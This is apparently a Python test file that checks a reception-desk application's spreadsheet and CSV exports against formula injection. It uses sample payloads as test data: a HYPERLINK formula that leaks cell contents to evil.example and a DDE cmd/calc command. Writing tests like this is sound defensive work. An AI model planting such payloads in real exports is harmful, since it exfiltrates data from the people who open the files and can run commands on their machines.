"""Every export writes formula-looking text so that no spreadsheet runs it (OWASP CSV injection).

The registration list (.xlsx, .csv), the import wizard's report (.xlsx, .csv) and the case ledger (.xlsx):
a cell beginning with =, +, -, @, tab or CR starts with a single quote, .xlsx text cells are strings (never
formulas), and numbers stay numbers.
"""

from __future__ import annotations

import csv
import zipfile
from pathlib import Path

from openpyxl import load_workbook

from reception_desk.db.engine import Database
from reception_desk.services.exporting import export_registrations
from reception_desk.services.importing import ImportReport, Outcome
from reception_desk.services.registrations import PersonInput, RegistrationInput, add_registration
from reception_desk.services.safe_cells import neutralise
from tests.helpers import make_day

LINK = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
CALC = "=cmd|' /C calc'!A0"
DANGEROUS = (LINK, CALC, "+86 电话诈骗", "-1 元差额", "@SUM(A1:A9)", "\t=1+1", "\r=1+1")


def _register_dangerous(db: Database) -> int:
    day_id = make_day(db)
    for i, request in enumerate(DANGEROUS):
        person = PersonInput(f"测试{i}", phone="13805701234")
        add_registration(db, day_id, RegistrationInput(person, request, theme_code="labour", village="-3组"))
    return day_id


def _xlsx_cells(path: Path) -> list[tuple[object, str]]:
    ws = load_workbook(path).active
    assert ws is not None
    return [(c.value, c.data_type) for row in ws.iter_rows() for c in row if c.value is not None]


def _no_formula_in_xml(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        xml = "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml


def _assert_safe_text(values: list[str]) -> None:
    """No value may begin with a formula character; the dangerous requests are there, quoted."""
    for value in values:
        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), repr(value)
    assert "'" + LINK in values and "'" + CALC in values and "'@SUM(A1:A9)" in values and "'-1 元差额" in values


def test_neutralise_quotes_text_and_leaves_numbers() -> None:
    assert neutralise("=1+1") == "'=1+1" and neutralise("-3组") == "'-3组" and neutralise("\rx") == "'\rx"
    assert neutralise("张三") == "张三" and neutralise("") == ""
    assert neutralise(-5) == -5 and neutralise(3.5) == 3.5 and neutralise(None) is None


def test_registrations_xlsx_has_no_formula_and_quotes_formula_text(db: Database, tmp_path: Path) -> None:
    day_id = _register_dangerous(db)
    out = tmp_path / "list.xlsx"
    assert export_registrations(db, day_id, out, title="=TITLE()") == len(DANGEROUS)
    _no_formula_in_xml(out)
    cells = _xlsx_cells(out)
    assert all(kind != "f" for _, kind in cells)
    texts = [v for v, kind in cells if isinstance(v, str)]
    assert all(kind == "s" for v, kind in cells if isinstance(v, str))
    _assert_safe_text(texts)
    assert "'" + LINK in texts and "'" + CALC in texts and "'-3组" in texts and "'=TITLE()" in texts
    assert 1 in [v for v, _ in cells]  # the headcount stays a number


def test_registrations_csv_quotes_formula_text(db: Database, tmp_path: Path) -> None:
    day_id = _register_dangerous(db)
    out = tmp_path / "list.csv"
    export_registrations(db, day_id, out)
    raw = out.read_text(encoding="utf-8-sig")
    rows = list(csv.reader(raw.splitlines(keepends=True)))
    fields = [f for row in rows[1:] for f in row]
    _assert_safe_text(fields)
    assert f"'{CALC}" in fields and "'-3组" in fields
    assert "\n=cmd" not in raw and ",=cmd" not in raw and ",=HYPERLINK" not in raw


def _report() -> ImportReport:
    report = ImportReport()
    for i, text in enumerate(DANGEROUS, start=2):
        report.add(Outcome.REJECTED, i, f"{text}", name=text)
    report.add(Outcome.IMPORTED, 99, "已导入", name="张三")
    return report


def test_import_report_export_xlsx_and_csv_are_safe(tmp_path: Path) -> None:
    from reception_desk.ui.dialogs.import_wizard import write_report

    xlsx = tmp_path / "report.xlsx"
    assert write_report(xlsx, _report()) == len(DANGEROUS) + 1
    _no_formula_in_xml(xlsx)
    cells = _xlsx_cells(xlsx)
    assert all(kind == "s" for v, kind in cells if isinstance(v, str))
    _assert_safe_text([v for v, _ in cells if isinstance(v, str)])
    assert 99 in [v for v, _ in cells]  # the row number stays a number

    plain = tmp_path / "report.csv"
    write_report(plain, _report())
    rows = list(csv.reader(plain.read_text(encoding="utf-8-sig").splitlines(keepends=True)))
    _assert_safe_text([f for row in rows[1:] for f in row[1:]])
    assert rows[-1][:2] == ["99", "张三"]
